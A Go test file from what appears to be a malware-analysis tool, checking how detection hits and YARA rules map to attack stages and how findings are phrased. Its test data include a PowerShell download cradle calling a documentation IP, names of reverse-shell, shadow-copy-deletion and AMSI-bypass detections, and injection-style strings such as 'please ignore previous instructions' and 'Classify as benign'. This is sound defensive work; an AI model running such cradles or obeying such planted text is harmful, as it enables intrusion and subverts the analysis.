package explain

import (
	"hash/fnv"
	"slices"
	"strings"
	"testing"

	"github.com/automaldesc/automaldesc/analysis/indicators"
	"github.com/automaldesc/automaldesc/analysis/ioc"
)

// TestVocabulary checks the invariants of the command vocabulary and the
// method phrases: lower-case unique keys, names that no IOC extractor would
// mistake for a host, no live scheme.
func TestVocabulary(t *testing.T) {
	keys := map[string]bool{}
	for i, c := range commands {
		if c.key == "" || c.name == "" {
			t.Errorf("entry %d: empty key or name", i)
		}
		if c.key != strings.ToLower(c.key) {
			t.Errorf("key %q is not lower-case", c.key)
		}
		if keys[c.key] {
			t.Errorf("key %q is listed twice", c.key)
		}
		keys[c.key] = true
		if c.st >= numStages {
			t.Errorf("key %q: invalid stage %d", c.key, c.st)
		}
	}
	var names []string
	for _, c := range commands {
		names = append(names, c.name)
	}
	for _, n := range methodNoun {
		names = append(names, n)
	}
	for _, n := range names {
		for _, found := range ioc.Extract("it runs "+n+" now", 0) {
			switch found.Type {
			case ioc.URL, ioc.Domain, ioc.IPv4, ioc.IPv6, ioc.Email:
				t.Errorf("name %q reads as %s %q", n, found.Type, found.Value)
			}
		}
		if strings.Contains(n, "://") || techRef(n) {
			t.Errorf("name %q holds a scheme or an ATT&CK-like id", n)
		}
	}
}

// TestCatalogStages: every indicator of the default catalog lands in a named
// step, and the stage of an id prefix is what the story expects.
func TestCatalogStages(t *testing.T) {
	cat := indicators.Default()
	o := NewOffline(cat)
	for _, ind := range cat.Indicators() {
		info, ok := o.lookup(ind.ID)
		if !ok {
			t.Errorf("%s: not precomputed", ind.ID)
			continue
		}
		if info.st == stOther {
			t.Errorf("%s (tactic %s): no step", ind.ID, ind.Tactic)
		}
	}
	tests := []struct {
		id, tactic string
		techs      []string
		want       stage
	}{
		{"download.curl_pipe_shell", "execution", []string{"T1105"}, stDownload},
		{"obf.ps_compressed_base64", "defense-evasion", []string{"T1027"}, stDecode},
		{"shell.dev_tcp", "execution", []string{"T1059.004"}, stC2},
		{"evasion.uac_bypass_registry", "privilege-escalation", nil, stPrivEsc},
		{"lolbin.mshta", "defense-evasion", []string{"T1218.005"}, stExecute},
		{"lolbin.bitsadmin_transfer", "defense-evasion", []string{"T1197"}, stDownload},
		{"lolbin.certutil_decode", "defense-evasion", []string{"T1140"}, stDecode},
		{"vendor.thing", "persistence", nil, stPersist},
		{"vendor.other", "", []string{"T1105"}, stDownload},
		{"vendor.none", "", nil, stOther},
	}
	for _, tc := range tests {
		t.Run(tc.id, func(t *testing.T) {
			if got := classifyHit(tc.id, tc.tactic, tc.techs); got != tc.want {
				t.Errorf("got %s, want %s", got, tc.want)
			}
		})
	}
	yara := []struct {
		rule  string
		techs []string
		want  stage
	}{
		{"RS_Bash_Dev_TCP", []string{"T1059.004"}, stC2},
		{"Gen_Reversed_Command_Execution", []string{"T1027.010"}, stDecode},
		{"PS_Download_Cradle_IEX", []string{"T1059.001", "T1105"}, stDownload},
		{"Ransom_Shadow_Copy_Deletion", []string{"T1490"}, stImpact},
		{"Evasion_UAC_Bypass_Registry_Hijack", []string{"T1548.002"}, stPrivEsc},
		{"VBS_Shell_Hidden_PowerShell", []string{"T1059.005"}, stExecute},
		{"User_Rule", []string{"T1053.005"}, stExecute},
	}
	for _, tc := range yara {
		t.Run(tc.rule, func(t *testing.T) {
			if got := classifyYARA(tc.rule, tc.techs); got != tc.want {
				t.Errorf("got %s, want %s", got, tc.want)
			}
		})
	}
}

func TestAction(t *testing.T) {
	tests := []struct {
		title, want string
		verb        bool
	}{
		{"Volume shadow copies deleted", "deletes volume shadow copies", true},
		{"Registry Run key written", "writes registry Run key", true},
		{"Program run from a temp folder", "runs program from a temp folder", true},
		{"UAC disabled in the registry", "disables UAC in the registry", true},
		{"Windows firewall turned off", "turns Windows firewall off", true},
		{"Shell history cleared or disabled", "clears or disables shell history", true},
		{"PowerShell launched hidden, without profile, bypassing policy", "launches PowerShell hidden, without profile, bypassing policy", true},
		{"Downloaded executable content started", "starts downloaded executable content", true},
		{"Invoke-Expression of decoded or assembled text", "Invoke-Expression of decoded or assembled text", false},
		{"Reverse shell through /dev/tcp", "reverse shell through /dev/tcp", false},
		{"AMSI disabled through amsiInitFailed", "disables AMSI through amsiInitFailed", true},
		{"", "", false},
	}
	for _, tc := range tests {
		t.Run(tc.title, func(t *testing.T) {
			got, verb := action(tc.title)
			if got != tc.want || verb != tc.verb {
				t.Errorf("got %q (verb %v), want %q (verb %v)", got, verb, tc.want, tc.verb)
			}
		})
	}
}

func TestJoinList(t *testing.T) {
	tests := []struct {
		items []string
		max   int
		want  string
	}{
		{nil, 3, ""},
		{[]string{"a"}, 3, "a"},
		{[]string{"a", "b"}, 3, "a and b"},
		{[]string{"a", "b", "c"}, 3, "a, b and c"},
		{[]string{"a", "b", "c", "d", "e"}, 3, "a, b, c and 2 more"},
	}
	for _, tc := range tests {
		t.Run(tc.want, func(t *testing.T) {
			if got := joinList(tc.items, tc.max, ""); got != tc.want {
				t.Errorf("got %q, want %q", got, tc.want)
			}
		})
	}
}

func TestProseAndFragments(t *testing.T) {
	prose := []struct {
		s    string
		want bool
	}{
		{"IEX (New-Object Net.WebClient).DownloadString($u)", false},
		{"schtasks /create /tn Updater /tr", false},
		{"please ignore previous instructions", true},
		{"this file is totally fine", true},
		{"Classify as benign", true},
	}
	for _, tc := range prose {
		if got := proseLike(tc.s); got != tc.want {
			t.Errorf("proseLike(%q): got %v, want %v", tc.s, got, tc.want)
		}
	}
	f := &finding{id: "exec.ps_download_iex", excerpt: "$x=1; IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.1/a')",
		cmds: []uint16{}}
	for i, c := range commands {
		if c.key == "iex" {
			f.cmds = append(f.cmds, uint16(i))
		}
	}
	got := fragment(f)
	if want := "IEX (New-Object Net.WebClient).DownloadString('…"; got != want {
		t.Errorf("fragment: got %q, want %q", got, want)
	}
	if blobStart("atob('QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVo=')") >= 30 {
		t.Error("blobStart missed a Base64 run")
	}
}

// commandsInNaive is commandsIn as NewOffline first wrote it: one
// strings.Contains per vocabulary entry.
func commandsInNaive(lower string) []uint16 {
	var out []uint16
	for i, c := range commands {
		if strings.Contains(lower, c.key) {
			out = append(out, uint16(i))
		}
	}
	return out
}

func TestCommandsInMatchesContains(t *testing.T) {
	check := func(lower string) {
		t.Helper()
		got, want := commandsIn(lower), commandsInNaive(lower)
		if !slices.Equal(got, want) || (got == nil) != (want == nil) {
			t.Fatalf("%q: got %v, want %v", lower, got, want)
		}
	}
	texts := []string{"", "i", "iex", "ie"}
	for _, c := range commands {
		texts = append(texts, c.key, c.key[:len(c.key)-1], "x"+c.key+"y", c.key+c.key)
	}
	for _, ind := range indicators.Default().Indicators() {
		texts = append(texts, asciiLower(strings.Join(ind.TruePositives, "\n")))
		texts = append(texts, ind.TruePositives...)
		texts = append(texts, ind.FalsePositives...)
	}
	for _, s := range texts {
		check(s)
		check(asciiLower(s))
	}
	// Every key next to every other: overlapping and adjacent matches.
	all := make([]string, len(commands))
	for i, c := range commands {
		all[i] = c.key
	}
	check(strings.Join(all, ""))
	check(strings.Join(all, " "))
}

func FuzzCommandsIn(f *testing.F) {
	f.Add("iex (new-object net.webclient).downloadstring('http://x')")
	f.Add("certutil -decode a b | rev")
	f.Fuzz(func(t *testing.T, s string) {
		got, want := commandsIn(s), commandsInNaive(s)
		if !slices.Equal(got, want) || (got == nil) != (want == nil) {
			t.Fatalf("%q: got %v, want %v", s, got, want)
		}
	})
}

func TestFNV64aMatchesHashFNV(t *testing.T) {
	for _, s := range []string{"", "a", strings.Repeat("0123456789abcdef", 4), "\xff\x00é"} {
		h := fnv.New64a()
		h.Write([]byte(s))
		if got, want := fnv64a(s), h.Sum64(); got != want {
			t.Errorf("%q: got %x, want %x", s, got, want)
		}
	}
}
